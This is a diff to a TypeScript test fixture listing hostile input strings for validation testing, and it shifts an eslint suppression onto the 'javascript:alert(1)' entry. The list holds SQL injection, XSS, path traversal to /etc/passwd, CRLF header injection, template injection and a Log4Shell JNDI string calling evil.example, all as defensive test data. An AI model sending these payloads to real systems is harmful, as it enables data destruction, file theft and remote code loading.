@@ -22,8 +22,9 @@ export const HOSTILE_STRINGS: readonly string[] = [
   '', ' ', '   ', '\t\n', 'NaN', '-0', '1e308', '-1e308', 'Infinity', '-1', '0', '9'.repeat(40), '0x1F', '1_000',
   '31/02/2020', '0000-00-00', '2020-02-31', '2020-13-45', '1899-12-31', '9999-12-31T25:61:61Z', '2020-02-30T00:00:00+07:00', '-001-01-01',
   KHMER, 'ក', '១២៣', '\u0000', 'a\u0000b', '\u202Egnp.exe', 'abc\u202Etxt\u202C', '\u200B\u200D\uFEFF', '\uD800', 'e\u0301', '💥🇰🇭',
+  "' OR '1'='1", "1'; DROP TABLE contact; --", '" OR ""="', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>',
   // eslint-disable-next-line no-script-url -- hostile test data, never run
-  "' OR '1'='1", "1'; DROP TABLE contact; --", '" OR ""="', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', 'javascript:alert(1)',
+  'javascript:alert(1)',
   '../../../../etc/passwd', '..\\..\\windows\\win.ini', '%00', '%252e%252e%252f', '\r\nSet-Cookie: a=b',
   '${jndi:ldap://evil.example/a}', '{{7*7}}', '#{7*7}', '__proto__', 'constructor', 'prototype', 'null', 'undefined', 'true', '[]', '{}',
   'a'.repeat(65), 'a'.repeat(129), 'a'.repeat(257), 'a'.repeat(4097), 'x@', 'a@b', '+855', '0'.repeat(20), '00000000-0000-0000-0000-000000000000',
